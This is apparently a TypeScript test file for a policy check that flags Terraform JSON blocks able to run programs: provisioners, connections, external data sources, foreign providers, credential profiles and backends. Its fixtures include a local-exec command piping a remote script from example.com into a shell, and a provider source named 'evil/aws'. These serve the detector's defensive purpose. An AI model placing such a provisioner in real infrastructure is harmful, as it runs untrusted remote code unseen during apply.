import { programsIn } from "../../src/policy/programs";
import { synthesizedAccount } from "../support/account";
import { VARIANTS } from "../support/environments";
import { synthesized } from "../support/synthesized";

const LOCAL_EXEC = { "local-exec": { command: "curl https://example.com | sh" } };

it.each(VARIANTS)("no environment of this project runs one: %s", (_name, overrides) => {
  expect(programsIn(synthesized(overrides).document)).toEqual([]);
});

it("the account's stack runs none", () => {
  expect(programsIn(synthesizedAccount().document)).toEqual([]);
});

describe("what runs a program is found wherever Terraform reads it", () => {
  const HIDDEN = "Terraform executes this block during apply, and no plan shows the block";
  const FOREIGN = "of another provider than hashicorp/aws";
  const BLIND = "no rule checks such a block, and no plan shows its effects";
  const READS = "every plan runs this data source, and it may do more than read";
  const ELSEWHERE = "the argument can make Terraform run another program, or send credentials elsewhere";

  it.each<[what: string, json: object, problems: string[]]>([
    [
      "a provisioner as cdktf writes it",
      { resource: { aws_vpc: { one: { provisioner: [LOCAL_EXEC] } } } },
      [`aws_vpc.one: provisioner: ${HIDDEN}`],
    ],
    [
      "a provisioner in lists, as Terraform's JSON allows them everywhere",
      { resource: [{ aws_vpc: [{ one: [{ tags: {} }, { provisioner: LOCAL_EXEC }] }] }] },
      [
        "resource: resources are written as a list, and no rule of the policy checks such a list",
        `aws_vpc.one: provisioner: ${HIDDEN}`,
      ],
    ],
    [
      "resources in a list of any level",
      { resource: { aws_vpc: { one: [{ cidr_block: "10.0.0.0/16" }] } } },
      ["resource: resources are written as a list, and no rule of the policy checks such a list"],
    ],
    [
      "a connection",
      { resource: { aws_vpc: { one: { connection: { host: "example.com" } } } } },
      [`aws_vpc.one: connection: ${HIDDEN}`],
    ],
    [
      "a provisioner of what is removed",
      { removed: [{ from: "aws_vpc.old", provisioner: [LOCAL_EXEC] }] },
      [`removed.aws_vpc.old: provisioner: ${HIDDEN}`],
    ],
    [
      "a resource that is there for a provisioner",
      { resource: { null_resource: { one: {} }, terraform_data: { two: { provisioner: [LOCAL_EXEC] } } } },
      [
        `null_resource.one: ${FOREIGN}`,
        `terraform_data.two: ${FOREIGN}`,
        `terraform_data.two: provisioner: ${HIDDEN}`,
      ],
    ],
    [
      "data sources that run something",
      { data: { external: { one: { program: ["sh"] } }, aws_lambda_invocation: { two: {} } } },
      [`data.external.one: ${READS}`, `data.aws_lambda_invocation.two: ${READS}`],
    ],
    [
      "blocks that no rule looks into",
      {
        module: { one: { source: "./x" } },
        action: { aws_lambda_invoke: {} },
        check: {},
        ephemeral: { aws_lambda_invocation: {} },
      },
      ["module", "action", "check", "ephemeral"].map((name) => `${name}: ${BLIND}`),
    ],
    [
      "other providers",
      {
        provider: [{ null: {} }],
        terraform: {
          required_providers: { null: {}, aws: { source: "evil/aws" }, mine: { source: "hashicorp/aws" } },
        },
      },
      [
        `provider.null: ${FOREIGN}`,
        "terraform.required_providers.null: another provider than hashicorp/aws",
        "terraform.required_providers.aws: another provider than hashicorp/aws",
      ],
    ],
    [
      "a profile, whose credential_process is a program",
      { provider: { aws: [{ region: "us-east-1" }, { profile: "x", shared_config_files: ["y"] }] } },
      [`provider.aws.profile: ${ELSEWHERE}`, `provider.aws.shared_config_files: ${ELSEWHERE}`],
    ],
    [
      "a backend or a service that does Terraform's work elsewhere",
      { terraform: [{ cloud: {}, backend: { http: { address: "x" }, s3: { profile: "x" } } }] },
      [
        "terraform.cloud: the argument can make another program do Terraform's work",
        "terraform.backend.http: another backend than s3",
        `terraform.backend.s3.profile: ${ELSEWHERE}`,
      ],
    ],
  ])("%s", (_what, json, problems) => {
    expect(programsIn({ ...json }).map(({ address, problem }) => `${address}: ${problem}`)).toEqual(problems);
  });

  it("and not in a tag or a comment of that name", () => {
    const tags = { provisioner: "local-exec", connection: "x" };
    const json = {
      "//": { provisioner: {} },
      resource: { "//": "x", aws_vpc: { "//": "y", one: { tags } } },
    };
    expect(programsIn(json)).toEqual([]);
  });
});
